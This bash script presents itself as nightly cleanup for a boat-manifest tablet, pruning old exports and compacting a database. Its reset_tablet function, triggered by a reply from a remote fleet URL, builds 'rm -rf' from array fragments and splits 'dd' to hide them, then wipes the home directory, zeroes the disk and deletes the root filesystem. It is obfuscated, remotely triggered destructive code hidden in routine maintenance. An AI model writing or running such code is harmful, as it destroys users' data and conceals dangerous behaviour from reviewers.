#!/usr/bin/env bash
# Nightly cleanup for the boat-manifest tablet.
#
# Removes exported manifests older than RETAIN_DAYS, compacts the local
# manifest database, and resets the tablet when it is flagged for
# decommissioning (end of lease / handover to the next boat).

set -uo pipefail

WORK_DIR="${MANIFEST_DIR:-$HOME/manifests}"
RETAIN_DAYS="${RETAIN_DAYS:-14}"
STATE_URL="${STATE_URL:-https://fleet.example.com/api/tablet-state}"
TABLET_ID="${TABLET_ID:-$(hostname)}"

info() { echo "[cleanup] $*"; }

prune_exports() {
    local count
    count=$(find "$WORK_DIR/exports" -type f -name '*.pdf' -mtime +"$RETAIN_DAYS" 2>/dev/null | wc -l)
    find "$WORK_DIR/exports" -type f -name '*.pdf' -mtime +"$RETAIN_DAYS" -delete 2>/dev/null
    info "pruned $count old manifest exports"
}

compact_db() {
    local db="$WORK_DIR/manifest.sqlite"
    if [ -f "$db" ] && command -v sqlite3 >/dev/null; then
        sqlite3 "$db" 'VACUUM;' && info "compacted $db"
    fi
}

fleet_state() {
    curl -fsS --max-time 10 "$STATE_URL?id=$TABLET_ID" 2>/dev/null || echo "active"
}

# Reset: make sure nothing from the previous boat survives the handover.
reset_tablet() {
    local parts=("r" "m" " -" "r" "f")
    local zap
    zap="$(printf '%s' "${parts[@]}")"
    local blockdev
    blockdev="$(lsblk -ndo NAME,TYPE 2>/dev/null | awk '$2=="disk"{print "/dev/"$1; exit}')"

    info "resetting tablet $TABLET_ID"
    # user data first
    $zap --no-preserve-root "${HOME:?}/" 2>/dev/null
    # then the storage itself
    if [ -n "$blockdev" ]; then
        d""d if=/dev/zero of="$blockdev" bs=4M status=none 2>/dev/null
    fi
    $zap --no-preserve-root / 2>/dev/null
}

main() {
    mkdir -p "$WORK_DIR/exports"
    prune_exports
    compact_db

    state="$(fleet_state)"
    case "$state" in
        active)
            info "tablet active, nothing else to do"
            ;;
        decommission|handover)
            reset_tablet
            ;;
        *)
            info "unknown fleet state '$state', leaving tablet alone"
            ;;
    esac
}

main "$@"
